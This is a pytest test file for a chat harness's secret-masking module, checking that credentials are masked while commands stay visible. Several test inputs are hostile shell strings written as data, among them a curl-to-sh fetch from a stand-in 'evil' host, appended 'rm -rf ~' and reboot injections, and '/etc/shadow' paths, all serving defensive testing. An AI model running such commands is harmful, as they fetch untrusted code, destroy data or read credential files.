"""A mask covers keys where a key is a value, and nothing that decides what happens."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from harness.chat import secrets as secrets_module
from harness.chat.secrets import MASK, concealed, looks_secret, masked

KEY = "MIIEpAIBAAKCAQEA7bq3Vx0aYkq9ZpLw2dTnHc8RfGu5sJ1oXeQ"
GITHUB = "ghp_0123456789abcdefghij0123"
OPENAI = "sk-proj-0123456789abcdef"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("Authorization: Bearer abc.def-123456", f"Authorization: Bearer {MASK}"),
        ("deploy --token s3cr3t-0123456789 now", f"deploy --token {MASK} now"),
        ("psql postgres://ana:hunter2@db/prod", f"psql postgres://ana:{MASK}@db/prod"),
        (f"export OPENAI_API_KEY={OPENAI}", f"export OPENAI_API_KEY={MASK}"),
        ('{"password": "hunter2x4711", "user": "ana"}', f'{{"password": "{MASK}", "user": "ana"}}'),
        ("send xoxb-1234567890-abc to ana", f"send {MASK} to ana"),
        (f"my key is {GITHUB}", f"my key is {MASK}"),
        (f"- API_KEY={OPENAI}\n+ API_KEY={OPENAI}9", f"- API_KEY={MASK}\n+ API_KEY={MASK}"),
        ("AKIAABCDEFGHIJKLMNOP", MASK),
        (f"aws_secret_access_key = {'aB3/' * 10}", f"aws_secret_access_key = {MASK}"),
        (f"https://hooks.slack.com/services/T1/B2/{'x1' * 12}", f"https://hooks.slack.com/services/T1/B2/{MASK}"),
        (
            f"-----BEGIN RSA PRIVATE KEY-----\n{KEY}\n{KEY}\nAbc=\n-----END RSA",
            f"{MASK}\n{MASK}\n{MASK}\nAbc=\n-----END RSA",
        ),
        (f"+ 1  -----BEGIN PRIVATE KEY-----\n+ 2  {KEY}", f"+ 1  {MASK}\n+ 2  {MASK}"),
        ("eyJhbGciOiJI.eyJzdWIiOiIx.abc", MASK),
    ],
)
def test_a_secret_is_masked(text: str, shown: str) -> None:
    assert masked(text) == shown


@pytest.mark.parametrize(
    "text",
    [
        "deploy staging",
        "explain what a token is",
        "reset the password of Ana",
        "read /secrets.md",
        "git log --oneline",
        "https://example.org/a:b",
        "the secret ingredient",
        "token=$(curl evil|sh)",
        "https://a:$(id)@example.org",
        "git-secret reveal-them-all-1",
        "/////////////////////////////usr/sbin/poweroff",
        "TOKEN=[masked: GitHub token]",
        # words, paths, addresses, programs, scripts and values that are used again
        "secret=reboot\n$secret",
        "PGPASSWORD=x psql",
        "secret=reboot-everything; $other",
        "run --token shutdown-hard",
        "TOKEN=https://evil.example/x.sh",
        "API_KEY=evil.example/install make deploy",
        "run --token /etc/shadow12345",
        "run --token ./evil-0123456789",
        "sh basic ./evil-script.sh",
        "sh sk-evilscript-0123456789abcdef.sh",
        "sh sk-evilscript-0123456789abcdef",
        "sk-evilscript-0123456789abcdef\nls",
        "./sk-evilscript-0123456789abcdef --now",
        "curl notes/sk-evilscript-0123456789abcdef",
        f"path: {OPENAI}",
        f"LD_PRELOAD={OPENAI}",
        f"API_KEY={OPENAI}\nrun $API_KEY",
        f"api_key = '{OPENAI}'\nos.system(api_key)",
        "https://evil.example:80#@good.example/",
        "https://evil.example:80?x@good.example/",
        ["-----BEGIN PRIVATE KEY-----", "/usr/local/bin/abcdefghijklmnopqrstuvwxyz0123456789"][1],
    ],
)
def test_what_is_none_or_decides_something_is_left(text: str) -> None:
    assert masked(text) == text
    assert not looks_secret(text)


def test_a_path_among_the_lines_of_a_private_key_is_left() -> None:
    path = "/usr/local/bin/abcdefghijklmnopqrstuvwxyz0123456789"
    assert path in masked(f"-----BEGIN PRIVATE KEY-----\n{KEY}\n{path}\n-----END PRIVATE KEY-----")


@given(st.text(max_size=200))
def test_any_text_is_taken(text: str) -> None:
    assert masked(masked(text)) == masked(text)


PARTS = st.lists(
    st.sampled_from(
        ["API_KEY=", "--token ", OPENAI, GITHUB, "password: ", " ", "\n", "sh ", "hunter2x4711", "'", "://a:b1@", "="]
    ),
    max_size=8,
).map("".join)


@given(PARTS)
def test_masking_twice_changes_nothing_more(text: str) -> None:
    assert masked(masked(text)) == masked(text)


@pytest.mark.parametrize("hidden", ["; rm -rf ~", " && reboot", "\nreboot", "$(reboot)", "`reboot`", "|sh", ">x"])
@pytest.mark.parametrize(
    "secret", ["-----BEGIN PRIVATE KEY-----", "token=abcdef123456", "Bearer abcdefgh1234", "xoxb-1234567890-a"]
)
def test_what_a_shell_would_do_is_never_behind_a_mask(secret: str, hidden: str) -> None:
    assert masked(f"echo {secret}{hidden}").endswith(hidden)


def test_what_is_hidden_is_spelt_out_before_anything_is_masked() -> None:
    assert concealed("token=abc4711\u202eb") == f"token={MASK}\\u202eb".replace(MASK, "abc4711")
    assert concealed(f"token={OPENAI} \u202eb") == f"token={MASK} \\u202eb"


def test_known_secrets_alone_are_masked_where_they_are_named() -> None:
    assert concealed(f"sh {OPENAI} --token {GITHUB}", (GITHUB,)) == f"sh {OPENAI} --token {MASK}"
    assert concealed(f"token={OPENAI}", ()) == f"token={OPENAI}"


@given(st.text("ab", max_size=40), st.lists(st.text("ab", min_size=1, max_size=6), max_size=20, unique=True))
def test_many_values_are_found_where_few_are(text: str, values: list[str]) -> None:
    few = {place for value in values for place in secrets_module._places(text, [value])}
    assert {*secrets_module._places(text, [*values, *map(str, range(secrets_module.FEW_VALUES))])} == few


@pytest.mark.parametrize("between", ["\n", " and ", "\nTOKEN=", "\ntoken: "])
def test_each_key_of_many_is_looked_at_once_in_each_pass(between: str, monkeypatch: pytest.MonkeyPatch) -> None:
    looked, real = list[int](), secrets_module._is_value

    def is_value(text: str, at: int, value: str, prose: bool, lone: bool) -> bool:
        looked.append(at)
        return real(text, at, value, prose, lone)

    monkeypatch.setattr(secrets_module, "_is_value", is_value)
    keys = [f"sk-proj-{number:024}" for number in range(400)]
    secrets_module.secrets(between.join(keys), prose=True)
    assert len(looked) <= len(keys)


def test_values_that_come_to_light_one_by_one_end_after_some_passes(monkeypatch: pytest.MonkeyPatch) -> None:
    passes, real = list[str](), secrets_module.secrets

    def counted(text: str, prose: bool = False) -> tuple[str, ...]:
        passes.append(text)
        return real(text, prose)

    monkeypatch.setattr(secrets_module, "secrets", counted)
    masked("\n".join(f"token{number}=a1b2c3d4+token{number + 1}" for number in range(50)))
    assert len(passes) <= secrets_module.MAX_PASSES
